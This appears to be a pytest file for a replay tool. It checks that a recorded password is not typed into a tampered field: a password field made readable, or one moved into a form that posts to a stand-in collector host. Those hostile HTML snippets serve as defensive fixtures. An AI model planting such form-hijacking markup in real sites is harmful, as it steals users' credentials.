"""Where a recorded password may not go at a replay: it stops before anything is typed, by the site's own account."""

from __future__ import annotations

import sqlite3
import urllib.request
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from simulator.recording.reader import Recording
from tests.runner.bench import Bench, Original, Shop

pytestmark = pytest.mark.timeout(600)

Spoilt = Callable[..., tuple[str, Shop]]

COLLECTOR = "https://collector.example/take"
FORM = '<form class="panel" action="/account/register"'
PASSWORD = 'name="password" type="password" autocomplete="new-password"'
TELLS = "oninput=\"fetch('/typed')\""
"""Tells the server of what is typed into a field; the server ends then."""
WATCHED = (PASSWORD, f"{PASSWORD} {TELLS}")
READABLE = (PASSWORD, f'name="password" type="text" {TELLS}')
ELSEWHERE = [
    (PASSWORD, f'{PASSWORD} form="elsewhere" {TELLS}'),
    (FORM, f'<form id="elsewhere" method="post" action="{COLLECTOR}"></form>{FORM}'),
]
TYPED = "GET /typed"


def answers(url: str) -> bool:
    with urllib.request.urlopen(url, timeout=30) as answer:
        return bool(answer.status == 200)


def aimed_otherwise(original: Original, folder: Path, evidence: str) -> Path:
    """Copy a recording, in which the user's passwords go into fields with other evidence."""
    path = folder / "aimed.db"
    with Recording.open(original.db) as recording, closing(sqlite3.connect(path)) as copy:
        recording.connection.backup(copy)
        changed = copy.execute(
            f"UPDATE action SET target = json_set(target, {evidence}) WHERE value LIKE '{{{{secret.%'"
        )
        assert changed.rowcount > 0
        copy.commit()
        copy.execute("PRAGMA journal_mode = DELETE")
    return path


@pytest.mark.table
async def test_the_server_knows_what_is_typed(bench: Bench, seller: Original, spoilt: Spoilt) -> None:
    url, shop = spoilt(replace=[WATCHED], die=TYPED, inline=True)
    (run,) = (await bench.replay(seller.db, "typed", shop=shop, url=url)).result.runs
    assert run.verdict == "environment"
    with pytest.raises(OSError, match=r"refused|reset"):
        answers(url)


@pytest.mark.breadth(0, table=1)
@pytest.mark.parametrize("mode", ["strict", pytest.param("heal", marks=pytest.mark.slow)])
@pytest.mark.parametrize(
    ("replace", "against"),
    [
        pytest.param([READABLE], "type: expected 'password', found 'text'", id="readable"),
        pytest.param(ELSEWHERE, f"form: expected 'post /account/register', found 'post {COLLECTOR}'", id="elsewhere"),
    ],
)
async def test_a_field_that_is_no_password_field_of_the_site_gets_none(
    bench: Bench, seller: Original, spoilt: Spoilt, replace: list[tuple[str, str]], against: str, mode: Any
) -> None:
    url, shop = spoilt(replace=replace, die=TYPED, inline=True)
    (run,) = (await bench.replay(seller.db, "stopped", shop=shop, url=url, mode=mode)).result.runs
    assert run.drift is not None
    assert (run.verdict, run.drift.tool) == ("target_contradicted", "register")
    assert against in run.drift.contradicted
    assert answers(url), "nothing was typed"
    assert shop.effects == []


@pytest.mark.parametrize(
    ("evidence", "replace", "told"),
    [
        pytest.param(
            "'$.type', 'text', '$.secret', json('false'), '$.autocomplete', ''",
            [READABLE],
            "a secret may only be typed into a password or one-time-code field",
            id="readable",
        ),
        pytest.param(
            f"'$.form', 'post {COLLECTOR}'",
            ELSEWHERE,
            f"and this form goes to {COLLECTOR}",
            id="elsewhere",
        ),
    ],
)
async def test_a_recording_cannot_send_it_elsewhere(
    bench: Bench,
    seller: Original,
    spoilt: Spoilt,
    tmp_path: Path,
    evidence: str,
    replace: list[tuple[str, str]],
    told: str,
) -> None:
    source = aimed_otherwise(seller, tmp_path, evidence)
    url, shop = spoilt(replace=replace, die=TYPED, inline=True)
    (run,) = (await bench.replay(source, "stopped", shop=shop, url=url)).result.runs
    assert run.drift is not None
    assert (run.verdict, run.drift.tool) == ("target_contradicted", "register")
    assert told in run.drift.found
    assert answers(url), "nothing was typed"
    assert shop.effects == []
